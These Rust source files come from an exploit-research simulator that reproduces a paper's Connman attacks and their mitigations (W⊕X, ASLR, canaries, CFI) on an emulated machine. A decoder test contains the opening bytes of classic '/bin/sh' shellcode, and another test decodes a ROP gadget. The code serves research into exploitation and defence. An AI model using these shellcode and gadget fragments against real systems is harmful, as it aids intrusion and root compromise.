            Insn::SubRmImm8 { dst, imm } => write!(f, "sub {dst}, {imm:#x}"),
            Insn::CmpRmImm8 { dst, imm } => write!(f, "cmp {dst}, {imm:#x}"),
            Insn::AddRmImm32 { dst, imm } => write!(f, "add {dst}, {imm:#x}"),
            Insn::SubRmImm32 { dst, imm } => write!(f, "sub {dst}, {imm:#x}"),
            Insn::CmpRmImm32 { dst, imm } => write!(f, "cmp {dst}, {imm:#x}"),
            Insn::AndRmR { dst, src } => write!(f, "and {dst}, {src}"),
            Insn::OrRmR { dst, src } => write!(f, "or {dst}, {src}"),
            Insn::CmpRmR { dst, src } => write!(f, "cmp {dst}, {src}"),
            Insn::TestRmR { dst, src } => write!(f, "test {dst}, {src}"),
            Insn::ShlRImm8 { reg, imm } => write!(f, "shl {reg}, {imm:#x}"),
            Insn::ShrRImm8 { reg, imm } => write!(f, "shr {reg}, {imm:#x}"),
            Insn::Lea { dst, src } => write!(f, "lea {dst}, {src}"),
            Insn::XchgEaxR(r) => write!(f, "xchg eax, {r}"),
            Insn::IncR(r) => write!(f, "inc {r}"),
            Insn::DecR(r) => write!(f, "dec {r}"),
            Insn::Ret => write!(f, "ret"),
            Insn::RetImm16(n) => write!(f, "ret {n:#x}"),
            Insn::Leave => write!(f, "leave"),
            Insn::CallRel32(d) => write!(f, "call {d:+#x}"),
            Insn::CallRm(o) => write!(f, "call {o}"),
            Insn::JmpRm(o) => write!(f, "jmp {o}"),
            Insn::JmpRel8(d) => write!(f, "jmp short {d:+#x}"),
            Insn::JmpRel32(d) => write!(f, "jmp {d:+#x}"),
            Insn::Jz8(d) => write!(f, "jz {d:+#x}"),
            Insn::Jnz8(d) => write!(f, "jnz {d:+#x}"),
            Insn::Jz32(d) => write!(f, "jz near {d:+#x}"),
            Insn::Jnz32(d) => write!(f, "jnz near {d:+#x}"),
            Insn::Movzx8 { dst, src } => write!(f, "movzx {dst}, byte {src}"),
            Insn::Int80 => write!(f, "int 0x80"),
            Insn::Hlt => write!(f, "hlt"),
        }
    }
}

fn low8_name(r: X86Reg) -> &'static str {
    match r {
        X86Reg::Eax => "a",
        X86Reg::Ecx => "c",
        X86Reg::Edx => "d",
        X86Reg::Ebx => "b",
        X86Reg::Esp => "sp",
        X86Reg::Ebp => "bp",
        X86Reg::Esi => "si",
        X86Reg::Edi => "di",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classic_shellcode_decodes() {
        // xor eax,eax; push eax; push "//sh"; push "/bin"; mov ebx,esp
        let code: &[u8] = &[
            0x31, 0xC0, 0x50, 0x68, 0x2F, 0x2F, 0x73, 0x68, 0x68, 0x2F, 0x62, 0x69, 0x6E, 0x89,
            0xE3,
        ];
        let mut at = 0;
        let mut out = Vec::new();
        while at < code.len() {
            let (i, n) = decode(&code[at..]).unwrap();
            out.push(i);
            at += n;
        }
        assert_eq!(
            out,
            vec![
                Insn::XorRmR {
                    dst: Operand::Reg(X86Reg::Eax),
                    src: X86Reg::Eax
                },
                Insn::PushR(X86Reg::Eax),
                Insn::PushImm(0x6873_2F2F),
                Insn::PushImm(0x6E69_622F),
                Insn::MovRmR {
                    dst: Operand::Reg(X86Reg::Ebx),
                    src: X86Reg::Esp
                },
            ]
        );
    }

    #[test]
    fn gadget_bytes_decode() {
        // pop ebx; pop esi; pop edi; ret — the pppr gadget shape.
        let code = [0x5B, 0x5E, 0x5F, 0xC3];
        assert_eq!(decode(&code).unwrap(), (Insn::PopR(X86Reg::Ebx), 1));
        assert_eq!(decode(&code[3..]).unwrap(), (Insn::Ret, 1));
    }

    #[test]
    fn memcpy_epilogue_decodes() {
        // add esp, 0xC; pop ebp; ret
        let code = [0x83, 0xC4, 0x0C, 0x5D, 0xC3];
        let (i, n) = decode(&code).unwrap();
        assert_eq!(
            i,
            Insn::AddRmImm8 {
                dst: Operand::Reg(X86Reg::Esp),
                imm: 0x0C
            }
        );
        assert_eq!(n, 3);
    }

    #[test]
    fn int80_and_mov_al() {
        assert_eq!(
            decode(&[0xB0, 0x0B]).unwrap(),
            (Insn::MovR8Imm(X86Reg::Eax, 11), 2)
        );
        assert_eq!(decode(&[0xCD, 0x80]).unwrap(), (Insn::Int80, 2));
        assert!(matches!(
            decode(&[0xCD, 0x21]),
            Err(DecodeError::Unsupported(0x21))
        ));
    }

    #[test]
    fn modrm_memory_forms() {
        // mov [ebx], eax → 89 03
        assert_eq!(
            decode(&[0x89, 0x03]).unwrap(),
            (
                Insn::MovRmR {
                    dst: Operand::Mem {
                        base: Some(X86Reg::Ebx),
                        disp: 0
                    },
                    src: X86Reg::Eax
                },
                2
            )
        );
        // mov eax, [ebp-4] → 8B 45 FC
        assert_eq!(
            decode(&[0x8B, 0x45, 0xFC]).unwrap(),
            (
                Insn::MovRRm {
                    dst: X86Reg::Eax,
                    src: Operand::Mem {
                        base: Some(X86Reg::Ebp),
                        disp: -4
                    }
                },
                3
            )
        );
        // mov eax, [0x08120200] → 8B 05 00 02 12 08
        assert_eq!(
            decode(&[0x8B, 0x05, 0x00, 0x02, 0x12, 0x08]).unwrap(),
            (
                Insn::MovRRm {
                    dst: X86Reg::Eax,
                    src: Operand::Mem {
                        base: None,
                        disp: 0x0812_0200
                    }
                },
                6
            )
        );
        // mov [esp], ecx via SIB → 89 0C 24
        assert_eq!(
            decode(&[0x89, 0x0C, 0x24]).unwrap(),
            (
                Insn::MovRmR {
                    dst: Operand::Mem {
                        base: Some(X86Reg::Esp),
                        disp: 0
                    },
                    src: X86Reg::Ecx
                },
                3
            )
        );
    }

    #[test]
    fn truncation_detected() {
        assert_eq!(decode(&[]), Err(DecodeError::Truncated));
        assert_eq!(decode(&[0x68, 1, 2]), Err(DecodeError::Truncated));
        assert_eq!(decode(&[0x83, 0xC4]), Err(DecodeError::Truncated));
        assert_eq!(
            decode(&[0x81, 0xEC, 0x0C, 0x04]),
            Err(DecodeError::Truncated)
        );
    }

    #[test]
    fn imm32_arith_forms() {
        // sub esp, 0x40C → 81 EC 0C 04 00 00 (the 1 KiB-frame prologue).
        assert_eq!(
            decode(&[0x81, 0xEC, 0x0C, 0x04, 0x00, 0x00]).unwrap(),
            (
                Insn::SubRmImm32 {
                    dst: Operand::Reg(X86Reg::Esp),
                    imm: 0x40C
                },
                6
            )
        );
        // cmp ecx, 0x400 → 81 F9 00 04 00 00
        assert_eq!(
            decode(&[0x81, 0xF9, 0x00, 0x04, 0x00, 0x00]).unwrap(),
            (
                Insn::CmpRmImm32 {
                    dst: Operand::Reg(X86Reg::Ecx),
                    imm: 0x400
                },
                6
            )
        );
        // add esp, 0x40C → 81 C4 0C 04 00 00 (the matching epilogue).
        assert_eq!(
            decode(&[0x81, 0xC4, 0x0C, 0x04, 0x00, 0x00]).unwrap(),
            (
                Insn::AddRmImm32 {
                    dst: Operand::Reg(X86Reg::Esp),
                    imm: 0x40C
                },
                6
            )
        );
        // 0x81 /3 (sbb) is outside the subset.
        assert_eq!(
            decode(&[0x81, 0xD9, 0, 0, 0, 0]),
            Err(DecodeError::Unsupported(0x81))
        );
    }

    #[test]
    fn unsupported_reported() {
        // 0x0F 0x05 (syscall) is outside the subset; plain 0xF1 too.
        assert_eq!(decode(&[0x0F, 0x05]), Err(DecodeError::Unsupported(0x05)));
        assert_eq!(decode(&[0xF1]), Err(DecodeError::Unsupported(0xF1)));
    }

    #[test]
    fn two_byte_opcodes() {
        assert_eq!(
            decode(&[0x0F, 0x84, 0x10, 0x00, 0x00, 0x00]).unwrap(),
            (Insn::Jz32(16), 6)
        );
        assert_eq!(
            decode(&[0x0F, 0x85, 0xF0, 0xFF, 0xFF, 0xFF]).unwrap(),
            (Insn::Jnz32(-16), 6)
        );
        // movzx eax, cl → 0F B6 C1
        assert_eq!(
            decode(&[0x0F, 0xB6, 0xC1]).unwrap(),
            (
                Insn::Movzx8 {
                    dst: X86Reg::Eax,
                    src: Operand::Reg(X86Reg::Ecx)
                },
                3
            )
        );
    }

    #[test]
    fn display_smoke() {
        let (i, _) = decode(&[0x89, 0xE3]).unwrap();
        assert_eq!(i.to_string(), "mov ebx, esp");
        let (i, _) = decode(&[0xC3]).unwrap();
        assert_eq!(i.to_string(), "ret");
    }

    #[test]
    fn push_imm8_sign_extends() {
        assert_eq!(
            decode(&[0x6A, 0xFF]).unwrap(),
            (Insn::PushImm(0xFFFF_FFFF), 2)
        );
    }

    #[test]
    fn table_matches_reference_decoder() {
        // Deterministic LCG sweep over 8-byte windows, plus every
        // 1..8-byte truncation of each window so the Truncated paths
        // are compared too.
        let mut s: u32 = 0x1234_5678;
        let mut next = move || {
            s = s.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            (s >> 24) as u8
        };
        for _ in 0..50_000 {
            let win: [u8; 8] = std::array::from_fn(|_| next());
            for len in 1..=win.len() {
                assert_eq!(
                    decode(&win[..len]),
                    decode_reference(&win[..len]),
                    "table and reference disagree on {:02x?}",
                    &win[..len]
                );
            }
        }
    }
}
