//! A small IA-32 assembler emitting the decoder's subset.

use crate::regs::X86Reg;

/// Byte-buffer assembler. Methods append one instruction each and return
/// `&mut self` for chaining; [`Asm::finish`] yields the bytes.
///
/// ```
/// use cml_vm::x86::{decode, Asm, Insn};
/// use cml_vm::X86Reg;
///
/// let code = Asm::new().nop().push_r(X86Reg::Eax).ret().finish();
/// assert_eq!(code, vec![0x90, 0x50, 0xC3]);
/// assert_eq!(decode(&code).unwrap().0, Insn::Nop);
/// ```
#[derive(Debug, Default, Clone)]
pub struct Asm {
    bytes: Vec<u8>,
}

impl Asm {
    /// Starts an empty buffer.
    pub fn new() -> Self {
        Asm::default()
    }

    /// Bytes emitted so far.
    pub fn len(&self) -> usize {
        self.bytes.len()
    }

    /// Whether nothing has been emitted.
    pub fn is_empty(&self) -> bool {
        self.bytes.is_empty()
    }

    /// Consumes the assembler, returning the code bytes.
    pub fn finish(self) -> Vec<u8> {
        self.bytes
    }

    /// Appends raw bytes (escape hatch for data or unusual encodings).
    pub fn raw(mut self, bytes: &[u8]) -> Self {
        self.bytes.extend_from_slice(bytes);
        self
    }

    /// `nop`.
    pub fn nop(mut self) -> Self {
        self.bytes.push(0x90);
        self
    }

    /// `push r32`.
    pub fn push_r(mut self, r: X86Reg) -> Self {
        self.bytes.push(0x50 + r.bits());
        self
    }

    /// `pop r32`.
    pub fn pop_r(mut self, r: X86Reg) -> Self {
        self.bytes.push(0x58 + r.bits());
        self
    }

    /// `push imm32`.
    pub fn push_imm(mut self, v: u32) -> Self {
        self.bytes.push(0x68);
        self.bytes.extend_from_slice(&v.to_le_bytes());
        self
    }

    /// `mov r32, imm32`.
    pub fn mov_r_imm(mut self, r: X86Reg, v: u32) -> Self {
        self.bytes.push(0xB8 + r.bits());
        self.bytes.extend_from_slice(&v.to_le_bytes());
        self
    }

    /// `mov r8, imm8` (low byte).
    pub fn mov_r8_imm(mut self, r: X86Reg, v: u8) -> Self {
        self.bytes.push(0xB0 + r.bits());
        self.bytes.push(v);
        self
    }

    /// `mov dst, src` (register to register, 0x89 with mod=11).
    pub fn mov_rr(mut self, dst: X86Reg, src: X86Reg) -> Self {
        self.bytes.push(0x89);
        self.bytes.push(0xC0 | (src.bits() << 3) | dst.bits());
        self
    }

    /// `mov [base+disp8], src`.
    pub fn mov_mem_r(mut self, base: X86Reg, disp: i8, src: X86Reg) -> Self {
        self.bytes.push(0x89);
        if base == X86Reg::Esp {
            self.bytes.push(0x40 | (src.bits() << 3) | 0b100);
            self.bytes.push(0x24);
        } else {
            self.bytes.push(0x40 | (src.bits() << 3) | base.bits());
        }
        self.bytes.push(disp as u8);
        self
    }

    /// `mov dst, [base+disp8]`.
    pub fn mov_r_mem(mut self, dst: X86Reg, base: X86Reg, disp: i8) -> Self {
        self.bytes.push(0x8B);
        if base == X86Reg::Esp {
            self.bytes.push(0x40 | (dst.bits() << 3) | 0b100);
            self.bytes.push(0x24);
        } else {
            self.bytes.push(0x40 | (dst.bits() << 3) | base.bits());
        }
        self.bytes.push(disp as u8);
        self
    }

    /// `mov dst, [abs32]`.
    pub fn mov_r_abs(mut self, dst: X86Reg, addr: u32) -> Self {
        self.bytes.push(0x8B);
        self.bytes.push((dst.bits() << 3) | 0b101);
        self.bytes.extend_from_slice(&addr.to_le_bytes());
        self
    }

    /// `xor dst, src` (mod=11).
    pub fn xor_rr(mut self, dst: X86Reg, src: X86Reg) -> Self {
        self.bytes.push(0x31);
        self.bytes.push(0xC0 | (src.bits() << 3) | dst.bits());
        self
    }

    /// `and dst, src` (mod=11).
    pub fn and_rr(mut self, dst: X86Reg, src: X86Reg) -> Self {
        self.bytes.push(0x21);
        self.bytes.push(0xC0 | (src.bits() << 3) | dst.bits());
        self
    }

    /// `or dst, src` (mod=11).
    pub fn or_rr(mut self, dst: X86Reg, src: X86Reg) -> Self {
        self.bytes.push(0x09);
        self.bytes.push(0xC0 | (src.bits() << 3) | dst.bits());
        self
    }

    /// `cmp dst, src` (mod=11).
    pub fn cmp_rr(mut self, dst: X86Reg, src: X86Reg) -> Self {
        self.bytes.push(0x39);
        self.bytes.push(0xC0 | (src.bits() << 3) | dst.bits());
        self
    }

    /// `test dst, src` (mod=11).
    pub fn test_rr(mut self, dst: X86Reg, src: X86Reg) -> Self {
        self.bytes.push(0x85);
        self.bytes.push(0xC0 | (src.bits() << 3) | dst.bits());
        self
    }

    /// `shl r32, imm8`.
    pub fn shl_r_imm8(mut self, r: X86Reg, imm: u8) -> Self {
        self.bytes.push(0xC1);
        self.bytes.push(0xE0 | r.bits());
        self.bytes.push(imm);
        self
    }

    /// `shr r32, imm8`.
    pub fn shr_r_imm8(mut self, r: X86Reg, imm: u8) -> Self {
        self.bytes.push(0xC1);
        self.bytes.push(0xE8 | r.bits());
        self.bytes.push(imm);
        self
    }

    /// `lea dst, [base+disp8]`.
    pub fn lea(mut self, dst: X86Reg, base: X86Reg, disp: i8) -> Self {
        self.bytes.push(0x8D);
        if base == X86Reg::Esp {
            self.bytes.push(0x40 | (dst.bits() << 3) | 0b100);
            self.bytes.push(0x24);
        } else {
            self.bytes.push(0x40 | (dst.bits() << 3) | base.bits());
        }
        self.bytes.push(disp as u8);
        self
    }

    /// `xchg eax, r32`.
    ///
    /// # Panics
    ///
    /// Panics for `eax` itself (that encoding is `nop`).
    pub fn xchg_eax_r(mut self, r: X86Reg) -> Self {
        assert!(r != X86Reg::Eax, "xchg eax, eax is nop");
        self.bytes.push(0x90 + r.bits());
        self
    }

    /// `add r32, imm8`.
    pub fn add_r_imm8(mut self, r: X86Reg, imm: i8) -> Self {
        self.bytes.push(0x83);
        self.bytes.push(0xC0 | r.bits());
        self.bytes.push(imm as u8);
        self
    }

    /// `sub r32, imm8`.
    pub fn sub_r_imm8(mut self, r: X86Reg, imm: i8) -> Self {
        self.bytes.push(0x83);
        self.bytes.push(0xE8 | r.bits());
        self.bytes.push(imm as u8);
        self
    }

    /// `cmp r32, imm8`.
    pub fn cmp_r_imm8(mut self, r: X86Reg, imm: i8) -> Self {
        self.bytes.push(0x83);
        self.bytes.push(0xF8 | r.bits());
        self.bytes.push(imm as u8);
        self
    }

    /// `add r32, imm32` (0x81 /0).
    pub fn add_r_imm32(mut self, r: X86Reg, imm: u32) -> Self {
        self.bytes.push(0x81);
        self.bytes.push(0xC0 | r.bits());
        self.bytes.extend_from_slice(&imm.to_le_bytes());
        self
    }

    /// `sub r32, imm32` (0x81 /5) — the large-frame prologue form.
    pub fn sub_r_imm32(mut self, r: X86Reg, imm: u32) -> Self {
        self.bytes.push(0x81);
        self.bytes.push(0xE8 | r.bits());
        self.bytes.extend_from_slice(&imm.to_le_bytes());
        self
    }

    /// `cmp r32, imm32` (0x81 /7).
    pub fn cmp_r_imm32(mut self, r: X86Reg, imm: u32) -> Self {
        self.bytes.push(0x81);
        self.bytes.push(0xF8 | r.bits());
        self.bytes.extend_from_slice(&imm.to_le_bytes());
        self
    }

    /// `lea dst, [base+disp32]` (mod=10, for frame-sized displacements).
    pub fn lea_disp32(mut self, dst: X86Reg, base: X86Reg, disp: i32) -> Self {
        self.bytes.push(0x8D);
        if base == X86Reg::Esp {
            self.bytes.push(0x80 | (dst.bits() << 3) | 0b100);
            self.bytes.push(0x24);
        } else {
            self.bytes.push(0x80 | (dst.bits() << 3) | base.bits());
        }
        self.bytes.extend_from_slice(&disp.to_le_bytes());
        self
    }

    /// `inc r32`.
    pub fn inc_r(mut self, r: X86Reg) -> Self {
        self.bytes.push(0x40 + r.bits());
        self
    }

    /// `dec r32`.
    pub fn dec_r(mut self, r: X86Reg) -> Self {
        self.bytes.push(0x48 + r.bits());
        self
    }

    /// `ret`.
    pub fn ret(mut self) -> Self {
        self.bytes.push(0xC3);
        self
    }

    /// `ret imm16`.
    pub fn ret_imm16(mut self, n: u16) -> Self {
        self.bytes.push(0xC2);
        self.bytes.extend_from_slice(&n.to_le_bytes());
        self
    }

    /// `leave`.
    pub fn leave(mut self) -> Self {
        self.bytes.push(0xC9);
        self
    }

    /// `call rel32`.
    pub fn call_rel32(mut self, rel: i32) -> Self {
        self.bytes.push(0xE8);
        self.bytes.extend_from_slice(&rel.to_le_bytes());
        self
    }

    /// `call r32`.
    pub fn call_r(mut self, r: X86Reg) -> Self {
        self.bytes.push(0xFF);
        self.bytes.push(0xD0 | r.bits());
        self
    }

    /// `jmp r32`.
    pub fn jmp_r(mut self, r: X86Reg) -> Self {
        self.bytes.push(0xFF);
        self.bytes.push(0xE0 | r.bits());
        self
    }

    /// `jmp [abs32]` — the PLT stub form (`jmp *got_slot`).
    pub fn jmp_abs_mem(mut self, addr: u32) -> Self {
        self.bytes.push(0xFF);
        self.bytes.push(0x25);
        self.bytes.extend_from_slice(&addr.to_le_bytes());
        self
    }

    /// `jmp short rel8`.
    pub fn jmp_rel8(mut self, rel: i8) -> Self {
        self.bytes.push(0xEB);
        self.bytes.push(rel as u8);
        self
    }

    /// `jz rel8`.
    pub fn jz_rel8(mut self, rel: i8) -> Self {
        self.bytes.push(0x74);
        self.bytes.push(rel as u8);
        self
    }

    /// `jnz rel8`.
    pub fn jnz_rel8(mut self, rel: i8) -> Self {
        self.bytes.push(0x75);
        self.bytes.push(rel as u8);
        self
    }

    /// `jz near rel32`.
    pub fn jz_rel32(mut self, rel: i32) -> Self {
        self.bytes.extend_from_slice(&[0x0F, 0x84]);
        self.bytes.extend_from_slice(&rel.to_le_bytes());
        self
    }

    /// `jnz near rel32`.
    pub fn jnz_rel32(mut self, rel: i32) -> Self {
        self.bytes.extend_from_slice(&[0x0F, 0x85]);
        self.bytes.extend_from_slice(&rel.to_le_bytes());
        self
    }

    /// `movzx dst, src_low_byte` (mod=11).
    pub fn movzx_rr8(mut self, dst: X86Reg, src: X86Reg) -> Self {
        self.bytes.extend_from_slice(&[0x0F, 0xB6]);
        self.bytes.push(0xC0 | (dst.bits() << 3) | src.bits());
        self
    }

    /// `int 0x80`.
    pub fn int80(mut self) -> Self {
        self.bytes.extend_from_slice(&[0xCD, 0x80]);
        self
    }

    /// `hlt`.
    pub fn hlt(mut self) -> Self {
        self.bytes.push(0xF4);
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::x86::{decode, Insn, Operand};

    /// Every assembled instruction must decode back to itself — the
    /// round-trip property the gadget finder relies on.
    #[test]
    fn assembler_decoder_roundtrip() {
        let cases: Vec<(Vec<u8>, Insn)> = vec![
            (Asm::new().nop().finish(), Insn::Nop),
            (
                Asm::new().push_r(X86Reg::Ebx).finish(),
                Insn::PushR(X86Reg::Ebx),
            ),
            (
                Asm::new().pop_r(X86Reg::Edi).finish(),
                Insn::PopR(X86Reg::Edi),
            ),
            (
                Asm::new().push_imm(0xdeadbeef).finish(),
                Insn::PushImm(0xdeadbeef),
            ),
            (
                Asm::new().mov_r_imm(X86Reg::Ecx, 0x1234).finish(),
                Insn::MovRImm(X86Reg::Ecx, 0x1234),
            ),
            (
                Asm::new().mov_r8_imm(X86Reg::Eax, 11).finish(),
                Insn::MovR8Imm(X86Reg::Eax, 11),
            ),
            (
                Asm::new().mov_rr(X86Reg::Ebx, X86Reg::Esp).finish(),
                Insn::MovRmR {
                    dst: Operand::Reg(X86Reg::Ebx),
                    src: X86Reg::Esp,
                },
            ),
            (
                Asm::new().xor_rr(X86Reg::Eax, X86Reg::Eax).finish(),
                Insn::XorRmR {
                    dst: Operand::Reg(X86Reg::Eax),
                    src: X86Reg::Eax,
                },
            ),
            (
                Asm::new().add_r_imm8(X86Reg::Esp, 0x0C).finish(),
                Insn::AddRmImm8 {
                    dst: Operand::Reg(X86Reg::Esp),
                    imm: 0x0C,
                },
            ),
            (
                Asm::new().sub_r_imm8(X86Reg::Esp, 8).finish(),
                Insn::SubRmImm8 {
                    dst: Operand::Reg(X86Reg::Esp),
                    imm: 8,
                },
            ),
            (
                Asm::new().inc_r(X86Reg::Eax).finish(),
                Insn::IncR(X86Reg::Eax),
            ),
            (
                Asm::new().dec_r(X86Reg::Edx).finish(),
                Insn::DecR(X86Reg::Edx),
            ),
            (Asm::new().ret().finish(), Insn::Ret),
            (Asm::new().ret_imm16(8).finish(), Insn::RetImm16(8)),
            (Asm::new().leave().finish(), Insn::Leave),
            (Asm::new().call_rel32(-5).finish(), Insn::CallRel32(-5)),
            (
                Asm::new().call_r(X86Reg::Eax).finish(),
                Insn::CallRm(Operand::Reg(X86Reg::Eax)),
            ),
            (
                Asm::new().jmp_r(X86Reg::Ebx).finish(),
                Insn::JmpRm(Operand::Reg(X86Reg::Ebx)),
            ),
            (
                Asm::new().jmp_abs_mem(0x0805_6000).finish(),
                Insn::JmpRm(Operand::Mem {
                    base: None,
                    disp: 0x0805_6000,
                }),
            ),
            (Asm::new().jmp_rel8(-2).finish(), Insn::JmpRel8(-2)),
            (Asm::new().jz_rel8(4).finish(), Insn::Jz8(4)),
            (Asm::new().jnz_rel8(-4).finish(), Insn::Jnz8(-4)),
            (Asm::new().int80().finish(), Insn::Int80),
            (Asm::new().hlt().finish(), Insn::Hlt),
            (
                Asm::new().mov_mem_r(X86Reg::Ebp, -8, X86Reg::Eax).finish(),
                Insn::MovRmR {
                    dst: Operand::Mem {
                        base: Some(X86Reg::Ebp),
                        disp: -8,
                    },
                    src: X86Reg::Eax,
                },
            ),
            (
                Asm::new().mov_r_mem(X86Reg::Eax, X86Reg::Esp, 4).finish(),
                Insn::MovRRm {
                    dst: X86Reg::Eax,
                    src: Operand::Mem {
                        base: Some(X86Reg::Esp),
                        disp: 4,
                    },
                },
            ),
            (
                Asm::new().mov_r_abs(X86Reg::Eax, 0x0812_0200).finish(),
                Insn::MovRRm {
                    dst: X86Reg::Eax,
                    src: Operand::Mem {
                        base: None,
                        disp: 0x0812_0200,
                    },
                },
            ),
            (
                Asm::new().add_r_imm32(X86Reg::Esp, 0x40C).finish(),
                Insn::AddRmImm32 {
                    dst: Operand::Reg(X86Reg::Esp),
                    imm: 0x40C,
                },
            ),
            (
                Asm::new().sub_r_imm32(X86Reg::Esp, 0x40C).finish(),
                Insn::SubRmImm32 {
                    dst: Operand::Reg(X86Reg::Esp),
                    imm: 0x40C,
                },
            ),
            (
                Asm::new().cmp_r_imm32(X86Reg::Ecx, 0x400).finish(),
                Insn::CmpRmImm32 {
                    dst: Operand::Reg(X86Reg::Ecx),
                    imm: 0x400,
                },
            ),
            (
                Asm::new()
                    .lea_disp32(X86Reg::Edi, X86Reg::Ebp, -0x40C)
                    .finish(),
                Insn::Lea {
                    dst: X86Reg::Edi,
                    src: Operand::Mem {
                        base: Some(X86Reg::Ebp),
                        disp: -0x40C,
                    },
                },
            ),
            (
                Asm::new()
                    .lea_disp32(X86Reg::Eax, X86Reg::Esp, 0x410)
                    .finish(),
                Insn::Lea {
                    dst: X86Reg::Eax,
                    src: Operand::Mem {
                        base: Some(X86Reg::Esp),
                        disp: 0x410,
                    },
                },
            ),
        ];
        for (bytes, expected) in cases {
            let (got, n) = decode(&bytes).unwrap_or_else(|e| panic!("{e}: {bytes:02x?}"));
            assert_eq!(got, expected, "bytes {bytes:02x?}");
            assert_eq!(n, bytes.len(), "full consumption for {bytes:02x?}");
        }
    }

    #[test]
    fn chaining_concatenates() {
        let code = Asm::new()
            .xor_rr(X86Reg::Eax, X86Reg::Eax)
            .push_r(X86Reg::Eax)
            .ret()
            .finish();
        assert_eq!(code.len(), 4);
    }
}
