//! Simulated 32-bit machine for `connman-lab`.
//!
//! This crate is the hardware-and-OS substitute for the reproduced
//! paper's x86 VM and Raspberry Pi: a little-endian 32-bit machine with
//!
//! * permissioned, region-based [`Memory`] — instruction fetch from
//!   non-executable pages and writes to read-only pages raise [`Fault`]s,
//!   which is how W⊕X ("DEP"/NX) manifests;
//! * three interpreters over **real instruction encodings**: an IA-32
//!   subset ([`x86`]), an ARMv7 (ARM state) subset ([`arm`]), and an
//!   RV32IC subset ([`riscv`]), each with a matching assembler and
//!   disassembler, all decoding through one declarative rule-table
//!   subsystem ([`decoder`]);
//! * a libc [`hooks`] layer: `memcpy`, `system`, `execlp`, `execve` and
//!   `exit` are native functions triggered when the program counter
//!   enters their address, following each architecture's calling
//!   convention — spawning `/bin/sh` becomes an observable
//!   [`Event::ShellSpawned`] instead of an actual process;
//! * a [`loader`] that maps a [`cml_image::Image`] under a
//!   [`Protections`] policy: W⊕X strips the execute bit from writable
//!   regions, ASLR slides the libc/stack/heap bases by a per-boot random
//!   page offset (program `.text`/`.plt`/`.bss` stay fixed, as in the
//!   paper's non-PIE binaries);
//! * an optional shadow-stack CFI mode and per-boot stack-canary value,
//!   used by the mitigation experiments (paper §IV).
//!
//! Nothing in this crate touches the host: "spawning a shell" is a pure
//! simulation event.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod arm;
pub mod coverage;
mod dcache;
pub mod debug;
pub mod decoder;
mod fault;
pub mod hooks;
mod ir;
pub mod loader;
mod machine;
mod mem;
mod regs;
pub mod riscv;
pub mod trace;
pub mod x86;

pub use coverage::{CoverageMap, COV_MAP_SIZE};
pub use fault::Fault;
pub use hooks::{HookOutcome, LibcFn};
pub use loader::{AslrConfig, LoadMap, Loader, Protections};
pub use machine::{Event, Machine, MachineSnapshot, RunOutcome, ShellSpawn};
pub use mem::{Memory, MemorySnapshot, RedzoneAccess, RedzoneHit, Region};
pub use regs::{ArmReg, ArmRegs, Regs, RiscvReg, RiscvRegs, X86Reg, X86Regs};
pub use trace::{Trace, TraceEntry};

/// Virtual address alias re-exported from the image crate.
pub use cml_image::Addr;

/// Sets the process-wide default for threaded-code IR dispatch; each
/// [`Machine`] built afterwards starts with IR dispatch in this state
/// (on unless changed). The `--no-ir` escape hatches in `cml fuzz` and
/// `repro` use this to pin whole runs — including worker threads that
/// build their own machines — to the fused-block fallback;
/// [`Machine::set_ir_dispatch_enabled`] overrides it per machine.
pub fn set_ir_dispatch_default(on: bool) {
    dcache::set_ir_default(on);
}

/// The process-wide default for threaded-code IR dispatch.
pub fn ir_dispatch_default() -> bool {
    dcache::ir_default()
}
