//! The machine: registers + memory + hooks + run loop.

use std::collections::HashMap;
use std::fmt;
use std::sync::Arc;

use cml_image::{Addr, Arch};

use crate::coverage::CoverageMap;
use crate::dcache::{Block, CachedInsn};
use crate::hooks::{self, LibcFn};
use crate::mem::{Memory, MemorySnapshot};
use crate::regs::Regs;
use crate::trace::{Trace, TraceEntry};
use crate::{arm, riscv, x86, Fault};

/// Fused blocks stop after this many instructions (straight-line runs
/// longer than a real basic block are rare; bounding keeps block build
/// cost and the budget-accounting granularity small).
const MAX_BLOCK: usize = 32;

/// A simulated `/bin/sh` spawn — the goal state of every exploit in the
/// paper ("interrupt the flow of Connman and spawn a root shell").
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShellSpawn {
    /// The program path or name passed to the exec-family call.
    pub program: String,
    /// Argument vector (excluding the terminating NULL).
    pub argv: Vec<String>,
    /// Which entry point produced it: `"execve"`, `"execlp"` or
    /// `"system"`.
    pub via: &'static str,
    /// Effective uid of the compromised process (0: Connman runs as
    /// root).
    pub uid: u32,
}

impl ShellSpawn {
    /// Whether this is the paper's success criterion: a shell, as root.
    pub fn is_root_shell(&self) -> bool {
        self.uid == 0 && (self.program.ends_with("sh") || self.program.contains("sh -c"))
    }
}

impl fmt::Display for ShellSpawn {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} via {} (uid {})", self.program, self.via, self.uid)
    }
}

/// An observable side effect recorded during execution.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum Event {
    /// An exec-family call or `system` produced a shell/process.
    ShellSpawned(ShellSpawn),
    /// The process exited.
    ProcessExited {
        /// Exit code.
        code: i32,
    },
    /// A hooked libc function ran.
    LibcCall {
        /// Function name.
        name: &'static str,
        /// First three integer arguments (convention-dependent).
        args: [u32; 3],
    },
    /// A syscall trap was taken.
    Syscall {
        /// Syscall number.
        number: u32,
    },
    /// Execution ended in a fault.
    Faulted(Fault),
}

/// Why [`Machine::run`] stopped.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum RunOutcome {
    /// Clean exit.
    Exited(i32),
    /// A shell was spawned — exploitation succeeded.
    ShellSpawned(ShellSpawn),
    /// The machine faulted (includes step-limit exhaustion).
    Fault(Fault),
}

impl RunOutcome {
    /// Whether the run ended in the paper's success state.
    pub fn is_root_shell(&self) -> bool {
        matches!(self, RunOutcome::ShellSpawned(s) if s.is_root_shell())
    }

    /// Whether the run ended in a crash (DoS).
    pub fn is_crash(&self) -> bool {
        matches!(self, RunOutcome::Fault(f) if f.is_segfault())
    }
}

impl fmt::Display for RunOutcome {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            RunOutcome::Exited(c) => write!(f, "exited with code {c}"),
